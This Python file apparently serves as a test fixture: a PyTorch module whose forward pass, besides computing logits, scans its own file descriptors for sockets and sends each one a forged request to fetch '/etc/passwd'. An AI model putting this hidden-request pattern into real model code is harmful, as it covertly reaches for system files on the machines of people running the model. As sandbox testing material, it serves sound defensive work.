"""A model that says something in its worker's name, as a stranger's might."""

import os
import stat
import struct
from contextlib import suppress

import torch
from torch import Tensor, nn


class Forger(nn.Module):
    """Asks for data that it may not have."""

    def __init__(self) -> None:
        super().__init__()
        self.layer = nn.Linear(64, 10)

    def forward(self, samples: Tensor) -> Tensor:
        """Logits."""
        question = b'{"kind": "fetch", "split": "/etc/passwd", "indices": [0]}'
        for name in os.listdir("/proc/self/fd"):
            with suppress(FileNotFoundError):  # the one that listed them
                if stat.S_ISSOCK(os.stat(f"/proc/self/fd/{name}").st_mode):
                    os.write(int(name), struct.pack("!i", len(question)) + question)
        return torch.as_tensor(self.layer(samples.flatten(1)))
